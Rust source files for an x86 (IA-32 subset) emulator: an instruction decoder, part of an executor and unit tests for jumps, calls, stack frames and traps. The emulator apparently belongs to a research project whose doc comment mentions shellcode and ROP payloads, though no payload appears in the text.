            let v = m.regs.x86().get(r).wrapping_sub(1);
            m.regs.x86_mut().set(r, v);
            m.regs.x86_mut().zf = v == 0;
        }
        Insn::Ret => {
            let target = m.pop_u32()?;
            m.ret_to(target, pc)?;
        }
        Insn::RetImm16(n) => {
            let target = m.pop_u32()?;
            let sp = m.regs.sp();
            m.regs.set_sp(sp.wrapping_add(n as u32));
            m.ret_to(target, pc)?;
        }
        Insn::Leave => {
            let ebp = m.regs.x86().get(X86Reg::Ebp);
            m.regs.set_sp(ebp);
            let v = m.pop_u32()?;
            m.regs.x86_mut().set(X86Reg::Ebp, v);
        }
        Insn::CallRel32(rel) => {
            m.push_u32(next)?;
            m.shadow_push(next);
            m.regs.set_pc(next.wrapping_add(rel as u32));
        }
        Insn::CallRm(op) => {
            let target = read_operand(m, op, pc)?;
            m.push_u32(next)?;
            m.shadow_push(next);
            m.regs.set_pc(target);
        }
        Insn::JmpRm(op) => {
            let target = read_operand(m, op, pc)?;
            m.regs.set_pc(target);
        }
        Insn::JmpRel8(rel) => m.regs.set_pc(next.wrapping_add(rel as i32 as u32)),
        Insn::JmpRel32(rel) => m.regs.set_pc(next.wrapping_add(rel as u32)),
        Insn::Jz8(rel) => {
            if m.regs.x86().zf {
                m.regs.set_pc(next.wrapping_add(rel as i32 as u32));
            }
        }
        Insn::Jnz8(rel) => {
            if !m.regs.x86().zf {
                m.regs.set_pc(next.wrapping_add(rel as i32 as u32));
            }
        }
        Insn::Jz32(rel) => {
            if m.regs.x86().zf {
                m.regs.set_pc(next.wrapping_add(rel as u32));
            }
        }
        Insn::Jnz32(rel) => {
            if !m.regs.x86().zf {
                m.regs.set_pc(next.wrapping_add(rel as u32));
            }
        }
        Insn::Movzx8 { dst, src } => {
            let v = match src {
                Operand::Reg(r) => m.regs.x86().get(r) & 0xFF,
                Operand::Mem { base, disp } => {
                    m.mem.read_u8(operand_addr(m, base, disp), pc)? as u32
                }
            };
            m.regs.x86_mut().set(dst, v);
        }
        Insn::Int80 => return hooks::syscall_x86(m, pc),
        Insn::Hlt => return Err(illegal(m, pc)),
    }
    Ok(None)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::x86::Asm;
    use cml_image::{Arch, Perms, SectionKind};

    fn machine(code: Vec<u8>) -> Machine {
        let mut m = Machine::new(Arch::X86);
        m.mem
            .map(".text", Some(SectionKind::Text), 0x1000, 0x1000, Perms::RX);
        m.mem
            .map("data", Some(SectionKind::Data), 0x3000, 0x100, Perms::RW);
        m.mem
            .map("stack", Some(SectionKind::Stack), 0x8000, 0x1000, Perms::RW);
        m.mem.poke(0x1000, &code).unwrap();
        m.regs.set_pc(0x1000);
        m.regs.set_sp(0x8800);
        m
    }

    fn run_steps(m: &mut Machine, n: usize) {
        for _ in 0..n {
            assert!(m.step().unwrap().is_none());
        }
    }

    #[test]
    fn mov_and_arith() {
        let code = Asm::new()
            .mov_r_imm(X86Reg::Eax, 10)
            .add_r_imm8(X86Reg::Eax, 5)
            .sub_r_imm8(X86Reg::Eax, 15)
            .finish();
        let mut m = machine(code);
        run_steps(&mut m, 3);
        assert_eq!(m.regs.x86().get(X86Reg::Eax), 0);
        assert!(m.regs.x86().zf);
    }

    #[test]
    fn memory_operands() {
        let code = Asm::new()
            .mov_r_imm(X86Reg::Ebx, 0x3000)
            .mov_r_imm(X86Reg::Eax, 0xCAFE)
            .mov_mem_r(X86Reg::Ebx, 4, X86Reg::Eax)
            .mov_r_mem(X86Reg::Ecx, X86Reg::Ebx, 4)
            .finish();
        let mut m = machine(code);
        run_steps(&mut m, 4);
        assert_eq!(m.regs.x86().get(X86Reg::Ecx), 0xCAFE);
        assert_eq!(m.mem.read_u32(0x3004, 0).unwrap(), 0xCAFE);
    }

    #[test]
    fn call_and_ret_pair() {
        // call +3 (skip hlt), hlt, then at target: ret back? Build:
        // 0x1000: call rel32 to 0x1008
        // 0x1005: nop nop nop
        // 0x1008: ret  -> returns to 0x1005
        let code = Asm::new().call_rel32(3).nop().nop().nop().ret().finish();
        let mut m = machine(code);
        run_steps(&mut m, 1);
        assert_eq!(m.regs.pc(), 0x1008);
        run_steps(&mut m, 1);
        assert_eq!(m.regs.pc(), 0x1005);
        assert_eq!(m.regs.sp(), 0x8800);
    }

    #[test]
    fn ret_imm16_cleans_stack() {
        let code = Asm::new().ret_imm16(8).finish();
        let mut m = machine(code);
        m.push_u32(0xAAAA).unwrap();
        m.push_u32(0xBBBB).unwrap();
        m.push_u32(0x1000).unwrap(); // return target
        run_steps(&mut m, 1);
        assert_eq!(m.regs.pc(), 0x1000);
        assert_eq!(m.regs.sp(), 0x8800);
    }

    #[test]
    fn conditional_jumps() {
        let code = Asm::new()
            .xor_rr(X86Reg::Eax, X86Reg::Eax) // zf = 1
            .jz_rel8(1)
            .hlt() // skipped
            .nop()
            .finish();
        let mut m = machine(code);
        run_steps(&mut m, 2);
        assert_eq!(m.regs.pc(), 0x1005);
        run_steps(&mut m, 1); // nop executes fine
    }

    #[test]
    fn jmp_indirect_via_register() {
        let code = Asm::new()
            .mov_r_imm(X86Reg::Eax, 0x1007)
            .jmp_r(X86Reg::Eax)
            .finish();
        let mut m = machine(code);
        run_steps(&mut m, 2);
        assert_eq!(m.regs.pc(), 0x1007);
    }

    #[test]
    fn plt_style_jmp_through_got() {
        // got slot at 0x3010 holds 0x1009; jmp [0x3010]
        let code = Asm::new().jmp_abs_mem(0x3010).finish();
        let mut m = machine(code);
        m.mem.write_u32(0x3010, 0x1009, 0).unwrap();
        run_steps(&mut m, 1);
        assert_eq!(m.regs.pc(), 0x1009);
    }

    #[test]
    fn leave_restores_frame() {
        let code = Asm::new().leave().finish();
        let mut m = machine(code);
        // Simulate a frame: ebp -> saved ebp on stack.
        m.push_u32(0xDEAD_0000).unwrap(); // saved ebp at 0x87FC
        m.regs.x86_mut().set(X86Reg::Ebp, 0x87FC);
        m.regs.set_sp(0x8700);
        run_steps(&mut m, 1);
        assert_eq!(m.regs.x86().get(X86Reg::Ebp), 0xDEAD_0000);
        assert_eq!(m.regs.sp(), 0x8800);
    }

    #[test]
    fn hlt_is_a_trap() {
        let code = Asm::new().hlt().finish();
        let mut m = machine(code);
        assert!(matches!(
            m.step(),
            Err(Fault::IllegalInstruction {
                pc: 0x1000,
                bytes: [0xF4, ..]
            })
        ));
    }

    #[test]
    fn fetch_from_unmapped_pc_reports_pc() {
        let mut m = machine(vec![0x90]);
        m.regs.set_pc(0x4141_4141);
        assert_eq!(m.step(), Err(Fault::UnmappedFetch { pc: 0x4141_4141 }));
    }
}
