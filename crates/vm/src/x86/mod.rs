//! IA-32 subset: decoder, assembler and executor.
//!
//! The subset covers everything the paper's payloads and target binary
//! need: the classic `execve` shellcode idiom, function
//! prologue/epilogue, PLT-style indirect jumps, `pop*`/`ret` gadget
//! material, and the `add esp, 0xC; pop ebp; ret` cleanup sequence that
//! the x86 ROP chain must accommodate. Encodings are the real ones, so
//! bytes assembled here disassemble in any standard tool.

mod asm;
mod exec;
mod insn;

pub use asm::Asm;
pub use insn::{decode, decode_reference, DecodeError, Insn, Operand, X86_RULES};

pub(crate) use exec::{decode_at, ends_block, exec_insn, step};
