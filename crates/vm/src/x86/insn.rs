//! Instruction forms and the decoder.

use std::error::Error;
use std::fmt;

use crate::regs::X86Reg;

/// A register or memory operand produced by ModRM decoding.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Operand {
    /// A general-purpose register (`mod == 11`).
    Reg(X86Reg),
    /// A memory reference `[base + disp]`; `base == None` is an absolute
    /// 32-bit address (`mod == 00, rm == 101`).
    Mem {
        /// Base register, if any.
        base: Option<X86Reg>,
        /// Signed displacement.
        disp: i32,
    },
}

impl fmt::Display for Operand {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Operand::Reg(r) => write!(f, "{r}"),
            Operand::Mem {
                base: Some(b),
                disp: 0,
            } => write!(f, "[{b}]"),
            Operand::Mem {
                base: Some(b),
                disp,
            } if *disp > 0 => {
                write!(f, "[{b}+{disp:#x}]")
            }
            Operand::Mem {
                base: Some(b),
                disp,
            } => write!(f, "[{b}-{:#x}]", -disp),
            Operand::Mem { base: None, disp } => write!(f, "[{:#010x}]", *disp as u32),
        }
    }
}

/// One decoded IA-32 instruction.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
#[non_exhaustive]
pub enum Insn {
    /// `nop` (0x90) — the x86 NOP-sled byte.
    Nop,
    /// `push r32` (0x50+r).
    PushR(X86Reg),
    /// `pop r32` (0x58+r).
    PopR(X86Reg),
    /// `push imm32` (0x68).
    PushImm(u32),
    /// `mov r32, imm32` (0xB8+r).
    MovRImm(X86Reg, u32),
    /// `mov r8, imm8` (0xB0+r) — writes the low byte of the register.
    MovR8Imm(X86Reg, u8),
    /// `mov r/m32, r32` (0x89 /r).
    MovRmR {
        /// Destination.
        dst: Operand,
        /// Source register.
        src: X86Reg,
    },
    /// `mov r32, r/m32` (0x8B /r).
    MovRRm {
        /// Destination register.
        dst: X86Reg,
        /// Source.
        src: Operand,
    },
    /// `xor r/m32, r32` (0x31 /r).
    XorRmR {
        /// Destination.
        dst: Operand,
        /// Source register.
        src: X86Reg,
    },
    /// `add r/m32, imm8` (0x83 /0).
    AddRmImm8 {
        /// Destination.
        dst: Operand,
        /// Sign-extended immediate.
        imm: i8,
    },
    /// `sub r/m32, imm8` (0x83 /5).
    SubRmImm8 {
        /// Destination.
        dst: Operand,
        /// Sign-extended immediate.
        imm: i8,
    },
    /// `cmp r/m32, imm8` (0x83 /7).
    CmpRmImm8 {
        /// Left-hand side.
        dst: Operand,
        /// Sign-extended immediate.
        imm: i8,
    },
    /// `add r/m32, imm32` (0x81 /0).
    AddRmImm32 {
        /// Destination.
        dst: Operand,
        /// Full-width immediate.
        imm: u32,
    },
    /// `sub r/m32, imm32` (0x81 /5) — the large-frame prologue form.
    SubRmImm32 {
        /// Destination.
        dst: Operand,
        /// Full-width immediate.
        imm: u32,
    },
    /// `cmp r/m32, imm32` (0x81 /7).
    CmpRmImm32 {
        /// Left-hand side.
        dst: Operand,
        /// Full-width immediate.
        imm: u32,
    },
    /// `and r/m32, r32` (0x21 /r).
    AndRmR {
        /// Destination.
        dst: Operand,
        /// Source register.
        src: X86Reg,
    },
    /// `or r/m32, r32` (0x09 /r).
    OrRmR {
        /// Destination.
        dst: Operand,
        /// Source register.
        src: X86Reg,
    },
    /// `cmp r/m32, r32` (0x39 /r).
    CmpRmR {
        /// Left-hand side.
        dst: Operand,
        /// Right-hand register.
        src: X86Reg,
    },
    /// `test r/m32, r32` (0x85 /r).
    TestRmR {
        /// Left-hand side.
        dst: Operand,
        /// Right-hand register.
        src: X86Reg,
    },
    /// `shl r32, imm8` (0xC1 /4).
    ShlRImm8 {
        /// Register shifted.
        reg: X86Reg,
        /// Shift amount.
        imm: u8,
    },
    /// `shr r32, imm8` (0xC1 /5).
    ShrRImm8 {
        /// Register shifted.
        reg: X86Reg,
        /// Shift amount.
        imm: u8,
    },
    /// `lea r32, [base+disp]` (0x8D /r).
    Lea {
        /// Destination register.
        dst: X86Reg,
        /// Address expression (must be a memory operand).
        src: Operand,
    },
    /// `xchg eax, r32` (0x91..0x97; 0x90 is `nop`).
    XchgEaxR(X86Reg),
    /// `inc r32` (0x40+r).
    IncR(X86Reg),
    /// `dec r32` (0x48+r).
    DecR(X86Reg),
    /// `ret` (0xC3) — the gadget terminator.
    Ret,
    /// `ret imm16` (0xC2).
    RetImm16(u16),
    /// `leave` (0xC9).
    Leave,
    /// `call rel32` (0xE8).
    CallRel32(i32),
    /// `call r/m32` (0xFF /2).
    CallRm(Operand),
    /// `jmp r/m32` (0xFF /4) — the PLT stub's dispatch form.
    JmpRm(Operand),
    /// `jmp rel8` (0xEB).
    JmpRel8(i8),
    /// `jmp rel32` (0xE9).
    JmpRel32(i32),
    /// `jz rel8` (0x74).
    Jz8(i8),
    /// `jnz rel8` (0x75).
    Jnz8(i8),
    /// `jz rel32` (0x0F 0x84).
    Jz32(i32),
    /// `jnz rel32` (0x0F 0x85).
    Jnz32(i32),
    /// `movzx r32, r/m8` (0x0F 0xB6).
    Movzx8 {
        /// Destination register.
        dst: X86Reg,
        /// Source (register low byte or memory byte).
        src: Operand,
    },
    /// `int 0x80` (0xCD 0x80) — the 32-bit Linux syscall gate.
    Int80,
    /// `hlt` (0xF4) — used as a trapping filler byte.
    Hlt,
}

/// Why bytes failed to decode.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum DecodeError {
    /// The window ended mid-instruction.
    Truncated,
    /// The leading opcode (or required ModRM form) is outside the subset.
    Unsupported(u8),
}

impl fmt::Display for DecodeError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            DecodeError::Truncated => write!(f, "instruction bytes truncated"),
            DecodeError::Unsupported(op) => write!(f, "unsupported opcode {op:#04x}"),
        }
    }
}

impl Error for DecodeError {}

fn need(bytes: &[u8], n: usize) -> Result<(), DecodeError> {
    if bytes.len() < n {
        Err(DecodeError::Truncated)
    } else {
        Ok(())
    }
}

fn imm32(bytes: &[u8], at: usize) -> Result<u32, DecodeError> {
    need(bytes, at + 4)?;
    Ok(u32::from_le_bytes([
        bytes[at],
        bytes[at + 1],
        bytes[at + 2],
        bytes[at + 3],
    ]))
}

fn imm16(bytes: &[u8], at: usize) -> Result<u16, DecodeError> {
    need(bytes, at + 2)?;
    Ok(u16::from_le_bytes([bytes[at], bytes[at + 1]]))
}

/// Decoded ModRM: the `reg` field plus the r/m operand and total length
/// consumed (ModRM byte + SIB + displacement).
struct ModRm {
    reg: u8,
    rm: Operand,
    len: usize,
}

fn modrm(bytes: &[u8], at: usize) -> Result<ModRm, DecodeError> {
    need(bytes, at + 1)?;
    let b = bytes[at];
    let md = b >> 6;
    let reg = (b >> 3) & 7;
    let rm = b & 7;
    match md {
        0b11 => Ok(ModRm {
            reg,
            rm: Operand::Reg(X86Reg::from_bits(rm)),
            len: 1,
        }),
        0b00 => match rm {
            0b101 => {
                let disp = imm32(bytes, at + 1)? as i32;
                Ok(ModRm {
                    reg,
                    rm: Operand::Mem { base: None, disp },
                    len: 5,
                })
            }
            0b100 => {
                // SIB; support the no-index form (index == 100).
                need(bytes, at + 2)?;
                let sib = bytes[at + 1];
                if (sib >> 3) & 7 != 0b100 {
                    return Err(DecodeError::Unsupported(sib));
                }
                let base = X86Reg::from_bits(sib & 7);
                Ok(ModRm {
                    reg,
                    rm: Operand::Mem {
                        base: Some(base),
                        disp: 0,
                    },
                    len: 2,
                })
            }
            _ => Ok(ModRm {
                reg,
                rm: Operand::Mem {
                    base: Some(X86Reg::from_bits(rm)),
                    disp: 0,
                },
                len: 1,
            }),
        },
        0b01 => {
            let (base, extra) = if rm == 0b100 {
                need(bytes, at + 2)?;
                let sib = bytes[at + 1];
                if (sib >> 3) & 7 != 0b100 {
                    return Err(DecodeError::Unsupported(sib));
                }
                (X86Reg::from_bits(sib & 7), 1)
            } else {
                (X86Reg::from_bits(rm), 0)
            };
            need(bytes, at + 1 + extra + 1)?;
            let disp = bytes[at + 1 + extra] as i8 as i32;
            Ok(ModRm {
                reg,
                rm: Operand::Mem {
                    base: Some(base),
                    disp,
                },
                len: 2 + extra,
            })
        }
        _ => {
            // mod == 10: disp32
            let (base, extra) = if rm == 0b100 {
                need(bytes, at + 2)?;
                let sib = bytes[at + 1];
                if (sib >> 3) & 7 != 0b100 {
                    return Err(DecodeError::Unsupported(sib));
                }
                (X86Reg::from_bits(sib & 7), 1)
            } else {
                (X86Reg::from_bits(rm), 0)
            };
            let disp = imm32(bytes, at + 1 + extra)? as i32;
            Ok(ModRm {
                reg,
                rm: Operand::Mem {
                    base: Some(base),
                    disp,
                },
                len: 5 + extra,
            })
        }
    }
}

/// Decodes one instruction from the start of `bytes` via the
/// declarative [`X86_RULES`] table, returning it and the number of
/// bytes consumed.
///
/// x86 keys the table on the first opcode byte only; the matched rule's
/// extractor receives the whole byte window and consumes ModRM/SIB/
/// displacement/immediate bytes itself (variable-length encodings).
///
/// # Errors
///
/// Returns [`DecodeError::Truncated`] if the window is too short or
/// [`DecodeError::Unsupported`] for opcodes outside the subset.
pub fn decode(bytes: &[u8]) -> Result<(Insn, usize), DecodeError> {
    need(bytes, 1)?;
    match crate::decoder::find(X86_RULES, bytes[0]) {
        Some(r) => (r.decode)(bytes),
        None => Err(DecodeError::Unsupported(bytes[0])),
    }
}

/// Extracts a `op r/m32, r32` form: ModRM at offset 1, `reg` is the
/// source register.
fn rm_r(bytes: &[u8], build: fn(Operand, X86Reg) -> Insn) -> Result<(Insn, usize), DecodeError> {
    let m = modrm(bytes, 1)?;
    Ok((build(m.rm, X86Reg::from_bits(m.reg)), 1 + m.len))
}

crate::decode_table! {
    /// The IA-32 subset as a declarative table, keyed on the first
    /// opcode byte. Rule order mirrors the reference decoder; `nop`
    /// must precede the `xchg eax, r32` family it aliases (0x90).
    pub static X86_RULES: u8 => fn(&[u8]) -> Result<(Insn, usize), DecodeError> {
        "nop" => (0xFF, 0x90, |_b| Ok((Insn::Nop, 1))),
        "xchg eax, r32" => (0xF8, 0x90, |b| {
            Ok((Insn::XchgEaxR(X86Reg::from_bits(b[0] - 0x90)), 1))
        }),
        "push r32" => (0xF8, 0x50, |b| {
            Ok((Insn::PushR(X86Reg::from_bits(b[0] - 0x50)), 1))
        }),
        "pop r32" => (0xF8, 0x58, |b| {
            Ok((Insn::PopR(X86Reg::from_bits(b[0] - 0x58)), 1))
        }),
        "push imm32" => (0xFF, 0x68, |b| Ok((Insn::PushImm(imm32(b, 1)?), 5))),
        "push imm8" => (0xFF, 0x6A, |b| {
            need(b, 2)?;
            Ok((Insn::PushImm(b[1] as i8 as i32 as u32), 2))
        }),
        "mov r32, imm32" => (0xF8, 0xB8, |b| {
            Ok((Insn::MovRImm(X86Reg::from_bits(b[0] - 0xB8), imm32(b, 1)?), 5))
        }),
        "mov r8, imm8" => (0xF8, 0xB0, |b| {
            need(b, 2)?;
            Ok((Insn::MovR8Imm(X86Reg::from_bits(b[0] - 0xB0), b[1]), 2))
        }),
        "mov r/m32, r32" => (0xFF, 0x89, |b| rm_r(b, |dst, src| Insn::MovRmR { dst, src })),
        "mov r32, r/m32" => (0xFF, 0x8B, |b| {
            let m = modrm(b, 1)?;
            Ok((
                Insn::MovRRm {
                    dst: X86Reg::from_bits(m.reg),
                    src: m.rm,
                },
                1 + m.len,
            ))
        }),
        "xor r/m32, r32" => (0xFF, 0x31, |b| rm_r(b, |dst, src| Insn::XorRmR { dst, src })),
        "and r/m32, r32" => (0xFF, 0x21, |b| rm_r(b, |dst, src| Insn::AndRmR { dst, src })),
        "or r/m32, r32" => (0xFF, 0x09, |b| rm_r(b, |dst, src| Insn::OrRmR { dst, src })),
        "cmp r/m32, r32" => (0xFF, 0x39, |b| rm_r(b, |dst, src| Insn::CmpRmR { dst, src })),
        "test r/m32, r32" => (0xFF, 0x85, |b| rm_r(b, |dst, src| Insn::TestRmR { dst, src })),
        "lea" => (0xFF, 0x8D, |b| {
            let m = modrm(b, 1)?;
            match m.rm {
                Operand::Mem { .. } => Ok((
                    Insn::Lea {
                        dst: X86Reg::from_bits(m.reg),
                        src: m.rm,
                    },
                    1 + m.len,
                )),
                Operand::Reg(_) => Err(DecodeError::Unsupported(b[0])),
            }
        }),
        "shl/shr r32, imm8" => (0xFF, 0xC1, |b| {
            let m = modrm(b, 1)?;
            need(b, 1 + m.len + 1)?;
            let imm = b[1 + m.len];
            let reg = match m.rm {
                Operand::Reg(r) => r,
                Operand::Mem { .. } => return Err(DecodeError::Unsupported(b[0])),
            };
            let insn = match m.reg {
                4 => Insn::ShlRImm8 { reg, imm },
                5 => Insn::ShrRImm8 { reg, imm },
                _ => return Err(DecodeError::Unsupported(b[0])),
            };
            Ok((insn, 1 + m.len + 1))
        }),
        "grp1 r/m32, imm8" => (0xFF, 0x83, |b| {
            let m = modrm(b, 1)?;
            need(b, 1 + m.len + 1)?;
            let imm = b[1 + m.len] as i8;
            let insn = match m.reg {
                0 => Insn::AddRmImm8 { dst: m.rm, imm },
                5 => Insn::SubRmImm8 { dst: m.rm, imm },
                7 => Insn::CmpRmImm8 { dst: m.rm, imm },
                _ => return Err(DecodeError::Unsupported(b[0])),
            };
            Ok((insn, 1 + m.len + 1))
        }),
        "grp1 r/m32, imm32" => (0xFF, 0x81, |b| {
            let m = modrm(b, 1)?;
            let imm = imm32(b, 1 + m.len)?;
            let insn = match m.reg {
                0 => Insn::AddRmImm32 { dst: m.rm, imm },
                5 => Insn::SubRmImm32 { dst: m.rm, imm },
                7 => Insn::CmpRmImm32 { dst: m.rm, imm },
                _ => return Err(DecodeError::Unsupported(b[0])),
            };
            Ok((insn, 1 + m.len + 4))
        }),
        "inc r32" => (0xF8, 0x40, |b| Ok((Insn::IncR(X86Reg::from_bits(b[0] - 0x40)), 1))),
        "dec r32" => (0xF8, 0x48, |b| Ok((Insn::DecR(X86Reg::from_bits(b[0] - 0x48)), 1))),
        "ret" => (0xFF, 0xC3, |_b| Ok((Insn::Ret, 1))),
        "ret imm16" => (0xFF, 0xC2, |b| Ok((Insn::RetImm16(imm16(b, 1)?), 3))),
        "leave" => (0xFF, 0xC9, |_b| Ok((Insn::Leave, 1))),
        "call rel32" => (0xFF, 0xE8, |b| Ok((Insn::CallRel32(imm32(b, 1)? as i32), 5))),
        "jmp rel32" => (0xFF, 0xE9, |b| Ok((Insn::JmpRel32(imm32(b, 1)? as i32), 5))),
        "jmp rel8" => (0xFF, 0xEB, |b| {
            need(b, 2)?;
            Ok((Insn::JmpRel8(b[1] as i8), 2))
        }),
        "jz rel8" => (0xFF, 0x74, |b| {
            need(b, 2)?;
            Ok((Insn::Jz8(b[1] as i8), 2))
        }),
        "jnz rel8" => (0xFF, 0x75, |b| {
            need(b, 2)?;
            Ok((Insn::Jnz8(b[1] as i8), 2))
        }),
        "grp5 call/jmp r/m32" => (0xFF, 0xFF, |b| {
            let m = modrm(b, 1)?;
            match m.reg {
                2 => Ok((Insn::CallRm(m.rm), 1 + m.len)),
                4 => Ok((Insn::JmpRm(m.rm), 1 + m.len)),
                _ => Err(DecodeError::Unsupported(b[0])),
            }
        }),
        "two-byte (0F)" => (0xFF, 0x0F, |b| {
            need(b, 2)?;
            match b[1] {
                0x84 => Ok((Insn::Jz32(imm32(b, 2)? as i32), 6)),
                0x85 => Ok((Insn::Jnz32(imm32(b, 2)? as i32), 6)),
                0xB6 => {
                    let m = modrm(b, 2)?;
                    Ok((
                        Insn::Movzx8 {
                            dst: X86Reg::from_bits(m.reg),
                            src: m.rm,
                        },
                        2 + m.len,
                    ))
                }
                other => Err(DecodeError::Unsupported(other)),
            }
        }),
        "int 0x80" => (0xFF, 0xCD, |b| {
            need(b, 2)?;
            if b[1] == 0x80 {
                Ok((Insn::Int80, 2))
            } else {
                Err(DecodeError::Unsupported(b[1]))
            }
        }),
        "hlt" => (0xFF, 0xF4, |_b| Ok((Insn::Hlt, 1))),
    }
}

/// The original hand-rolled decoder, retained as the reference
/// implementation for the decode-table differential tests and the
/// table-vs-hand-rolled bench ablation.
///
/// # Errors
///
/// Same contract as [`decode`].
pub fn decode_reference(bytes: &[u8]) -> Result<(Insn, usize), DecodeError> {
    need(bytes, 1)?;
    let op = bytes[0];
    match op {
        0x90 => Ok((Insn::Nop, 1)),
        0x50..=0x57 => Ok((Insn::PushR(X86Reg::from_bits(op - 0x50)), 1)),
        0x58..=0x5F => Ok((Insn::PopR(X86Reg::from_bits(op - 0x58)), 1)),
        0x68 => Ok((Insn::PushImm(imm32(bytes, 1)?), 5)),
        0x6A => {
            need(bytes, 2)?;
            Ok((Insn::PushImm(bytes[1] as i8 as i32 as u32), 2))
        }
        0xB8..=0xBF => Ok((
            Insn::MovRImm(X86Reg::from_bits(op - 0xB8), imm32(bytes, 1)?),
            6 - 1,
        )),
        0xB0..=0xB7 => {
            need(bytes, 2)?;
            Ok((Insn::MovR8Imm(X86Reg::from_bits(op - 0xB0), bytes[1]), 2))
        }
        0x89 => {
            let m = modrm(bytes, 1)?;
            Ok((
                Insn::MovRmR {
                    dst: m.rm,
                    src: X86Reg::from_bits(m.reg),
                },
                1 + m.len,
            ))
        }
        0x8B => {
            let m = modrm(bytes, 1)?;
            Ok((
                Insn::MovRRm {
                    dst: X86Reg::from_bits(m.reg),
                    src: m.rm,
                },
                1 + m.len,
            ))
        }
        0x31 => {
            let m = modrm(bytes, 1)?;
            Ok((
                Insn::XorRmR {
                    dst: m.rm,
                    src: X86Reg::from_bits(m.reg),
                },
                1 + m.len,
            ))
        }
        0x21 => {
            let m = modrm(bytes, 1)?;
            Ok((
                Insn::AndRmR {
                    dst: m.rm,
                    src: X86Reg::from_bits(m.reg),
                },
                1 + m.len,
            ))
        }
        0x09 => {
            let m = modrm(bytes, 1)?;
            Ok((
                Insn::OrRmR {
                    dst: m.rm,
                    src: X86Reg::from_bits(m.reg),
                },
                1 + m.len,
            ))
        }
        0x39 => {
            let m = modrm(bytes, 1)?;
            Ok((
                Insn::CmpRmR {
                    dst: m.rm,
                    src: X86Reg::from_bits(m.reg),
                },
                1 + m.len,
            ))
        }
        0x85 => {
            let m = modrm(bytes, 1)?;
            Ok((
                Insn::TestRmR {
                    dst: m.rm,
                    src: X86Reg::from_bits(m.reg),
                },
                1 + m.len,
            ))
        }
        0x8D => {
            let m = modrm(bytes, 1)?;
            match m.rm {
                Operand::Mem { .. } => Ok((
                    Insn::Lea {
                        dst: X86Reg::from_bits(m.reg),
                        src: m.rm,
                    },
                    1 + m.len,
                )),
                Operand::Reg(_) => Err(DecodeError::Unsupported(op)),
            }
        }
        0xC1 => {
            let m = modrm(bytes, 1)?;
            need(bytes, 1 + m.len + 1)?;
            let imm = bytes[1 + m.len];
            let reg = match m.rm {
                Operand::Reg(r) => r,
                Operand::Mem { .. } => return Err(DecodeError::Unsupported(op)),
            };
            let insn = match m.reg {
                4 => Insn::ShlRImm8 { reg, imm },
                5 => Insn::ShrRImm8 { reg, imm },
                _ => return Err(DecodeError::Unsupported(op)),
            };
            Ok((insn, 1 + m.len + 1))
        }
        0x91..=0x97 => Ok((Insn::XchgEaxR(X86Reg::from_bits(op - 0x90)), 1)),
        0x83 => {
            let m = modrm(bytes, 1)?;
            need(bytes, 1 + m.len + 1)?;
            let imm = bytes[1 + m.len] as i8;
            let insn = match m.reg {
                0 => Insn::AddRmImm8 { dst: m.rm, imm },
                5 => Insn::SubRmImm8 { dst: m.rm, imm },
                7 => Insn::CmpRmImm8 { dst: m.rm, imm },
                _ => return Err(DecodeError::Unsupported(op)),
            };
            Ok((insn, 1 + m.len + 1))
        }
        0x81 => {
            let m = modrm(bytes, 1)?;
            let imm = imm32(bytes, 1 + m.len)?;
            let insn = match m.reg {
                0 => Insn::AddRmImm32 { dst: m.rm, imm },
                5 => Insn::SubRmImm32 { dst: m.rm, imm },
                7 => Insn::CmpRmImm32 { dst: m.rm, imm },
                _ => return Err(DecodeError::Unsupported(op)),
            };
            Ok((insn, 1 + m.len + 4))
        }
        0x40..=0x47 => Ok((Insn::IncR(X86Reg::from_bits(op - 0x40)), 1)),
        0x48..=0x4F => Ok((Insn::DecR(X86Reg::from_bits(op - 0x48)), 1)),
        0xC3 => Ok((Insn::Ret, 1)),
        0xC2 => Ok((Insn::RetImm16(imm16(bytes, 1)?), 3)),
        0xC9 => Ok((Insn::Leave, 1)),
        0xE8 => Ok((Insn::CallRel32(imm32(bytes, 1)? as i32), 5)),
        0xE9 => Ok((Insn::JmpRel32(imm32(bytes, 1)? as i32), 5)),
        0xEB => {
            need(bytes, 2)?;
            Ok((Insn::JmpRel8(bytes[1] as i8), 2))
        }
        0x74 => {
            need(bytes, 2)?;
            Ok((Insn::Jz8(bytes[1] as i8), 2))
        }
        0x75 => {
            need(bytes, 2)?;
            Ok((Insn::Jnz8(bytes[1] as i8), 2))
        }
        0xFF => {
            let m = modrm(bytes, 1)?;
            match m.reg {
                2 => Ok((Insn::CallRm(m.rm), 1 + m.len)),
                4 => Ok((Insn::JmpRm(m.rm), 1 + m.len)),
                _ => Err(DecodeError::Unsupported(op)),
            }
        }
        0x0F => {
            need(bytes, 2)?;
            match bytes[1] {
                0x84 => Ok((Insn::Jz32(imm32(bytes, 2)? as i32), 6)),
                0x85 => Ok((Insn::Jnz32(imm32(bytes, 2)? as i32), 6)),
                0xB6 => {
                    let m = modrm(bytes, 2)?;
                    Ok((
                        Insn::Movzx8 {
                            dst: X86Reg::from_bits(m.reg),
                            src: m.rm,
                        },
                        2 + m.len,
                    ))
                }
                other => Err(DecodeError::Unsupported(other)),
            }
        }
        0xCD => {
            need(bytes, 2)?;
            if bytes[1] == 0x80 {
                Ok((Insn::Int80, 2))
            } else {
                Err(DecodeError::Unsupported(bytes[1]))
            }
        }
        0xF4 => Ok((Insn::Hlt, 1)),
        other => Err(DecodeError::Unsupported(other)),
    }
}

impl fmt::Display for Insn {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Insn::Nop => write!(f, "nop"),
            Insn::PushR(r) => write!(f, "push {r}"),
            Insn::PopR(r) => write!(f, "pop {r}"),
            Insn::PushImm(v) => write!(f, "push {v:#x}"),
            Insn::MovRImm(r, v) => write!(f, "mov {r}, {v:#x}"),
            Insn::MovR8Imm(r, v) => write!(f, "mov {}l, {v:#x}", low8_name(*r)),
            Insn::MovRmR { dst, src } => write!(f, "mov {dst}, {src}"),
            Insn::MovRRm { dst, src } => write!(f, "mov {dst}, {src}"),
            Insn::XorRmR { dst, src } => write!(f, "xor {dst}, {src}"),
            Insn::AddRmImm8 { dst, imm } => write!(f, "add {dst}, {imm:#x}"),
